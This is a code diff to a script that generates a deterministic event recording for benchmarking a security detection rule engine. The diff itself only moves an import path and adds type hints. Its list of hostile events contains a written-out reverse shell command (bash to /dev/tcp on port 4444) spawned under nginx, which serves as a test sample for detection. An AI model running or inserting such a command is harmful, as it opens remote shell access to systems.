@@ -20,6 +20,7 @@ import random
 import sys
 import tempfile
 import time
+from collections.abc import Callable
 from pathlib import Path
 
 from vigil.detect.rules import RuleEngine, RulesDetector, builtin_rule_files, compile_files
@@ -31,10 +32,10 @@ TARGET = 100_000
 
 def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
     """A deterministic recording with a realistic mix (written once, committed)."""
-    from tests.rules_events import ev, read, run, write  # the same builders the tests use
+    from tests.fixtures.rules_events import ev, read, run, write  # the same builders the tests use
 
     rng = random.Random(seed)  # noqa: S311 - a reproducible mix, not a secret
-    benign = [
+    benign: list[Callable[[], Event]] = [
         lambda: run("/usr/sbin/nginx -g daemon off;", parent="/usr/bin/tini"),
         lambda: run("/bin/sh -c /usr/local/bin/healthcheck", parent="/usr/bin/containerd-shim"),
         lambda: run("/usr/local/bin/healthcheck", parent="/bin/sh"),
@@ -58,7 +59,7 @@ def make_recording(path: Path, count: int = 5000, seed: int = 6) -> None:
         lambda: ev("chmod", path="/app/run.sh", mode=0o644, exe="/bin/sh"),
     ]
     weights = [8, 6, 6, 4, 3, 10, 12, 4, 5, 5, 10, 6, 4, 5, 4, 3, 3, 1, 1]
-    hostile = [
+    hostile: list[Callable[[], Event]] = [
         lambda: run(
             "/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", parent="/usr/sbin/nginx"
         ),
